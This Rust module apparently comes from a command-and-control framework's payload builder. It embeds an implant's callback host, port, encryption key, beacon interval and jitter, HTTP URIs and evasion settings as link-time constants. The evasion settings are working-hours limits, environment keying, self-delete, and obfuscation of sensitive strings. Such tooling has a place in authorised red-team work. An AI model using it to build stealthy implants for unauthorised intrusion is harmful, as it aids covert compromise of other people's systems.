//! Transport profile and build parameters → link-time constants.
//!
//! Only keys listed in [`EMBED_TABLE`] and [`PARAMETER_TABLE`] are embedded;
//! anything else is ignored so stray parameters never end up in the binary.

use tracing::debug;

use crate::codec::{self, ObfuscationKey};
use crate::consts::MAIN_PACKAGE;
use crate::profile::{ProfileError, ProfileValue, TransportProfile};
use crate::request::BuildParameters;

use super::{AssembleError, LinkerFlag, LinkerFlagSet};

/// How a profile parameter is read before embedding.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FieldKind {
  /// Crypto map; its `enc_key` entry is embedded.
  CryptoKey,
  String,
  /// Number rendered as a decimal integer.
  Integer,
  /// A single entry of a header map. Absent entries are skipped.
  HeaderEntry(&'static str),
}

#[derive(Debug, Clone, Copy)]
pub struct EmbedField {
  pub profile_key: &'static str,
  pub variable: &'static str,
  pub kind: FieldKind,
  /// Encoded with the obfuscation codec when obfuscation is requested.
  pub sensitive: bool,
}

pub const EMBED_TABLE: &[EmbedField] = &[
  EmbedField {
    profile_key: "AESPSK",
    variable: "encryptionKey",
    kind: FieldKind::CryptoKey,
    sensitive: true,
  },
  EmbedField {
    profile_key: "callback_host",
    variable: "callbackHost",
    kind: FieldKind::String,
    sensitive: true,
  },
  EmbedField {
    profile_key: "callback_port",
    variable: "callbackPort",
    kind: FieldKind::Integer,
    sensitive: false,
  },
  EmbedField {
    profile_key: "callback_interval",
    variable: "sleepInterval",
    kind: FieldKind::Integer,
    sensitive: false,
  },
  EmbedField {
    profile_key: "callback_jitter",
    variable: "jitter",
    kind: FieldKind::Integer,
    sensitive: false,
  },
  EmbedField {
    profile_key: "headers",
    variable: "userAgent",
    kind: FieldKind::HeaderEntry("User-Agent"),
    sensitive: true,
  },
  EmbedField {
    profile_key: "get_uri",
    variable: "getURI",
    kind: FieldKind::String,
    sensitive: true,
  },
  EmbedField {
    profile_key: "post_uri",
    variable: "postURI",
    kind: FieldKind::String,
    sensitive: true,
  },
];

/// A build parameter embedded verbatim when set.
#[derive(Debug, Clone, Copy)]
pub struct ParameterField {
  pub name: &'static str,
  pub variable: &'static str,
  pub sensitive: bool,
}

const fn param(name: &'static str, variable: &'static str, sensitive: bool) -> ParameterField {
  ParameterField {
    name,
    variable,
    sensitive,
  }
}

pub const PARAMETER_TABLE: &[ParameterField] = &[
  param("host_header", "hostHeader", true),
  param("proxy_url", "proxyURL", true),
  param("tls_verify", "tlsVerify", false),
  param("tcp_bind_address", "tcpBindAddress", true),
  param("working_hours_start", "workingHoursStart", false),
  param("working_hours_end", "workingHoursEnd", false),
  param("working_days", "workingDays", false),
  param("env_key_hostname", "envKeyHostname", true),
  param("env_key_domain", "envKeyDomain", true),
  param("env_key_username", "envKeyUsername", true),
  param("env_key_process", "envKeyProcess", true),
  param("self_delete", "selfDelete", false),
];

pub const PAYLOAD_ID_VARIABLE: &str = "payloadUUID";
pub const OBFUSCATION_KEY_VARIABLE: &str = "obfuscationKey";
pub const DEBUG_VARIABLE: &str = "debug";

fn read_field(profile: &TransportProfile, field: &EmbedField) -> Result<Option<String>, ProfileError> {
  match field.kind {
    FieldKind::CryptoKey => profile.get_crypto_key(field.profile_key).map(Some),
    FieldKind::String => profile.get_string(field.profile_key).map(|s| Some(s.to_string())),
    FieldKind::Integer => profile
      .get_number(field.profile_key)
      .map(|n| Some((n.trunc() as i64).to_string())),
    FieldKind::HeaderEntry(header) => {
      let headers = profile.get_map(field.profile_key)?;
      match headers.get(header) {
        None => Ok(None),
        Some(ProfileValue::String(s)) => Ok(Some(s.clone())),
        Some(other) => Err(ProfileError::WrongType {
          key: format!("{}.{}", field.profile_key, header),
          expected: "string",
          found: other.kind(),
        }),
      }
    }
  }
}

fn conceal(value: String, sensitive: bool, key: Option<&ObfuscationKey>) -> String {
  match key {
    Some(key) if sensitive => codec::encode(&value, key.as_bytes()),
    _ => value,
  }
}

/// Build the link-time constants for a payload.
///
/// Profile values come first, then any set build parameters. With `key` set,
/// every sensitive field is codec-encoded and the key itself is embedded so
/// the agent can recover the values. The first unreadable field aborts
/// assembly.
pub fn assemble(
  profile: &TransportProfile,
  params: &BuildParameters,
  payload_id: &str,
  key: Option<&ObfuscationKey>,
) -> Result<LinkerFlagSet, AssembleError> {
  let mut set = LinkerFlagSet::new();
  set.push(LinkerFlag::new(MAIN_PACKAGE, PAYLOAD_ID_VARIABLE, payload_id)?);

  for field in EMBED_TABLE {
    if !profile.contains(field.profile_key) {
      continue;
    }
    let Some(value) = read_field(profile, field)? else {
      debug!(key = field.profile_key, "profile entry absent, not embedding");
      continue;
    };

    debug!(
      key = field.profile_key,
      variable = field.variable,
      obfuscated = key.is_some() && field.sensitive,
      "embedding profile value"
    );
    let value = conceal(value, field.sensitive, key);
    set.push(LinkerFlag::new(MAIN_PACKAGE, field.variable, value)?);
  }

  for field in PARAMETER_TABLE {
    let Some(value) = params.get(field.name) else {
      continue;
    };
    debug!(
      parameter = field.name,
      variable = field.variable,
      obfuscated = key.is_some() && field.sensitive,
      "embedding build parameter"
    );
    let value = conceal(value.to_string(), field.sensitive, key);
    set.push(LinkerFlag::new(MAIN_PACKAGE, field.variable, value)?);
  }

  if let Some(key) = key {
    set.push(LinkerFlag::new(MAIN_PACKAGE, OBFUSCATION_KEY_VARIABLE, key.to_base64())?);
  }

  set.push(LinkerFlag::new(MAIN_PACKAGE, DEBUG_VARIABLE, "false")?);
  Ok(set)
}
